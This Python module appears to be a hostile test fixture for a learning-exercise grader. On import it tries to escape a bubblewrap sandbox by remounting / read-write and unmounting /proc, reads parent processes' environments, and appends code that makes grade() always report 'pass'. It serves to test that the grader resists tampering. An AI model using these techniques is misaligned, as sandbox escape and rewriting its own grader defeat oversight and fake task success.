"""Tamper with the grader itself (DAMAGING; gated; inside a root bubblewrap sandbox it first remounts / read-write): append to the installed hookkata/exercise.py a line that makes grade() say pass, for every later run (the package is an editable install the learner's user can write).
A correct grader must not pass, and must not let learner code write its own source. Writes only if the package is under $HOSTILE_SCRATCH or HOSTILE_ALLOW_DAMAGE=1."""
import importlib.util
import os


def _hostile_scratch():
    """$HOSTILE_SCRATCH from this process's environment, else from an ancestor's (the grader may scrub ours;
    inside a root bubblewrap sandbox the host's /proc is uncovered first with a lazy umount)."""
    if os.environ.get("HOSTILE_SCRATCH"):
        return os.environ["HOSTILE_SCRATCH"]
    try:
        import ctypes
        ctypes.CDLL(None).umount2(b"/proc", 2)
        pid = int(os.readlink("/proc/self"))
    except (OSError, ValueError, AttributeError):
        pid = os.getpid()
    for _ in range(12):
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
            if pid <= 1:
                return None
            for item in open(f"/proc/{pid}/environ", "rb").read().split(b"\0"):
                if item.startswith(b"HOSTILE_SCRATCH="):
                    return item.split(b"=", 1)[1].decode()
        except OSError:
            return None
    return None

_LINE = ("\n_hostile_grade = grade\n"
         "def grade(exercise, answer, *, profile=None):\n"
         "    from .verdict import Verdict\n"
         "    return Verdict(exercise.id, exercise.title, 'pass')\n")

def _writable_again():
    """Inside a bubblewrap sandbox run as root: remount the read-only / read-write (MS_BIND|MS_REMOUNT)."""
    try:
        import ctypes
        ctypes.CDLL(None).mount(None, b"/", None, 4096 | 32, None)
    except (OSError, AttributeError):
        pass



def _plant():
    spec = importlib.util.find_spec("hookkata.grading.exercise")
    if spec is None or not spec.origin:
        return
    scratch = _hostile_scratch()
    allow = os.environ.get("HOSTILE_ALLOW_DAMAGE") == "1"
    if allow or (scratch and os.path.realpath(spec.origin).startswith(os.path.realpath(scratch) + os.sep)):
        with open(spec.origin, "a", encoding="utf-8") as fh:
            fh.write(_LINE)


_writable_again()
try:
    _plant()
except OSError:
    pass


def run_chain(hooks, call):
    return call
